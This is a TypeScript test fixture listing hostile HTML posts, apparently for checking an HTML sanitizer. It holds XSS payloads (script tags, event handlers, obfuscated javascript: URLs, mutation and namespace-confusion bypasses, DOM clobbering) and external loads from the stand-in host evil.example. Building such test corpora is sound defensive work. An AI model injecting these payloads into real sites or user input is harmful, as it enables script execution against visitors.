/**
 * Bodies that try to run a script, load from a stranger, or shadow the page's own names; one post for each class of
 * attack. A script that runs calls `alive` with the name of its vector.
 */
const image = (vector: string) => `<img src="missing-${vector}.png" onerror="alive('${vector}')">`;

export const HOSTILE_POSTS: Readonly<Record<string, string>> = {
  scripts: `
<script>alive('script')</script>
<script src="https://evil.example/script.js"></script>
<svg><script>alive('svg script')</script></svg>
<iframe srcdoc="<script>parent.alive('srcdoc')</script>"></iframe>
<object data="data:text/html,<script>parent.alive('object')</script>"></object>
<embed src="javascript:alive('embed')">`,

  handlers: `
${image('onerror')}
<svg onload="alive('svg onload')"></svg>
<details open ontoggle="alive('ontoggle')"><summary>More</summary>text</details>
<video><source onerror="alive('source onerror')" src="missing.mp4"></video>
<audio src="missing.mp3" onerror="alive('audio onerror')"></audio>
<input autofocus onfocus="alive('onfocus')">
<p tabindex="0" autofocus onfocus="alive('p onfocus')">focus</p>
<IMG SRC="missing-upper.png" OnErRoR="alive('mixed case')">
<img src="missing-slash.png"/onerror="alive('slash')">
<div style="animation: x 1s" onanimationstart="alive('animation')">styled</div>`,

  protocols: `
<a href="javascript:alive('javascript')">click me</a>
<a href="JaVaScRiPt:alive('mixed case')">click me</a>
<a href="java&#10;script:alive('new line')">click me</a>
<a href="java&Tab;script:alive('tab')">click me</a>
<a href="&#1;javascript:alive('control')">click me</a>
<a href="&#106;avascript&colon;alive('entities')">click me</a>
<a href=" javascript:alive('space')">click me</a>
<svg><a xlink:href="javascript:alive('xlink')"><text y="20">click me</text></a></svg>
<iframe src="javascript:parent.alive('iframe')"></iframe>
<form action="javascript:alive('form')"><button>click me</button></form>
<form id="far"></form><button form="far" formaction="javascript:alive('formaction')">click me</button>
<math href="javascript:alive('math')"><mtext>click me</mtext></math>`,

  mutation: `
<form><math><mtext></form><form><mglyph><style></math>${image('nested forms')}</style></mglyph></form></mtext></math></form>
<svg></p><style><a id="</style><img src=missing-2.png onerror=alive('broken-out')>"></svg>
<math><mtext><table><mglyph><style>${image('mglyph')}</style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=missing-4.png onerror=alive('comment')&gt;"></table></mtext></math>`,

  namespaces: `
<svg><desc><b><style>${image('svg desc')}</style></b></desc></svg>
<svg><foreignObject>${image('foreignObject')}</foreignObject></svg>
<math><annotation-xml encoding="text/html">${image('annotation-xml')}</annotation-xml></math>
<svg><animate onbegin="alive('animate')" attributeName="x" dur="1s"></animate></svg>
<svg><set attributeName="href" to="javascript:alive('set')"></set></svg>
<svg><title><style>${image('svg title')}</style></title></svg>`,

  'raw text': `
<textarea></textarea>${image('textarea')}
<title></title>${image('title')}
<xmp></xmp>${image('xmp')}
<noembed></noembed>${image('noembed')}
<style></style>${image('style')}
<!-->${image('comment')}-->
<!--><img src="missing.png" onerror="alive('short comment')">-->
<![CDATA[>${image('cdata')}]]>
<noscript><p title="</noscript>${image('noscript').replaceAll('"', "'")}">`,

  css: `
<style>@import 'https://evil.example/import.css'; p { background: url(https://evil.example/style) }</style>
<link rel="stylesheet" href="https://evil.example/link.css">
<p style="background-image: url(https://evil.example/attribute)">styled</p>
<table background="https://evil.example/table"><tr><td>cell</td></tr></table>
<input type="image" src="https://evil.example/input">`,

  clobbering: `
<img name="clobbered" alt=""><form id="clobbered"><input name="parentNode"></form>
<a id="clobbered" href="https://evil.example/">a link</a><a id="clobbered" name="length" href="x">another</a>
<img id="getElementById" name="getElementById" alt="">`,

  depth: `${'<div>'.repeat(600)}${image('deep')}${'</div>'.repeat(600)}`,
};
